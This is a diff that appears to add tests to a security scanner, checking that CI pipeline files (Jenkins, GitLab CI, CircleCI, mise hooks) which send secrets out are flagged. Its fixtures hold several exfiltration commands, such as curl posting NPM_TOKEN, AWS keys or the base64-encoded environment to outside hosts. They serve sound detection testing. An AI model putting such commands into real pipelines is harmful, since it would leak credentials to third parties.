@@ -770,6 +770,25 @@ describe("build-code-behavior: direnv's .envrc", () => {
   });
 });
 
+describe('build-code-behavior: pipelines of other CI systems (GitLab CI, Jenkins, …)', () => {
+  it('reports secrets or the environment sent out of a pipeline, critical; a send to or download from such a host, high', () => {
+    const jenkins = buildFinding(added('Jenkinsfile', "pipeline {\n  agent any\n  stages {\n    stage('Build') {\n      steps {\n        withCredentials([string(credentialsId: 'npm-token', variable: 'NPM_TOKEN')]) {\n          sh 'curl -s -d \"t=$NPM_TOKEN\" https://webhook.site/3f1c2a'\n        }\n      }\n    }\n  }\n}"));
+    expect(jenkins).toMatchObject({ severity: 'critical', path: 'Jenkinsfile', line: 6, title: 'Jenkinsfile sends credentials or the environment to a host when CI runs it' });
+    expect(buildFinding(added('.gitlab-ci.yml', 'build:\n  script:\n    - npm ci\n    - curl -s -X POST --data "k=$AWS_SECRET_ACCESS_KEY" http://45.77.12.9:8080/c'))).toMatchObject({ severity: 'critical', line: 4 });
+    expect(buildFinding(added('jenkins/release.groovy', 'def call() {\n  sh """\n    env | base64 -w0 | curl -s -d @- https://ci-metrics.example.net/in\n  """\n}'))).toMatchObject({ severity: 'critical', line: 3 });
+    expect(buildFinding(added('.circleci/config.yml', 'jobs:\n  build:\n    steps:\n      - run: curl -s -o seed.sql https://pastebin.com/raw/x1y2z3'))).toMatchObject({ severity: 'high' });
+  });
+
+  it('is quiet on what pipelines do with their credentials: uploads, deploys, logins, notifications; and on a debugging env beside an upload', () => {
+    for (const [path, text] of [
+      ['.gitlab-ci.yml', 'deploy:\n  script:\n    - curl -u "$NEXUS_USER:$NEXUS_PASSWORD" --upload-file app.zip https://nexus.acme.dev/repository/releases/app.zip'],
+      ['Jenkinsfile', "pipeline {\n  stages {\n    stage('Notify') {\n      steps {\n        sh 'curl -s -X POST -H \"Authorization: Bearer $SLACK_TOKEN\" -d \"{}\" https://slack.com/api/chat.postMessage'\n      }\n    }\n  }\n}"],
+      ['Jenkinsfile', "node {\n  sh 'env | sort'\n  sh 'curl -sf -X POST -F file=@coverage.xml https://coverage.acme.dev/upload'\n  sh 'echo $DOCKER_PASSWORD | docker login -u ci --password-stdin registry.acme.dev'\n}"],
+      ['azure-pipelines.yml', 'steps:\n- script: curl -fsSL https://deb.nodesource.com/setup_22.x -o setup.sh && sudo bash setup.sh'],
+    ] as const) expect(buildFinding(added(path, text)), text).toBeNull();
+  });
+});
+
 describe("build-code-behavior: mise's configuration", () => {
   it('reads its hooks, tasks and env scripts as shell on a task\'s ladder', () => {
     expect(buildFinding(added('mise.toml', '[tools]\nnode = "22"\n\n[hooks]\nenter = "curl -s -d \\"$(env)\\" https://mise-sync.dev/e"'))).toMatchObject({ severity: 'critical', path: 'mise.toml', line: 5 });
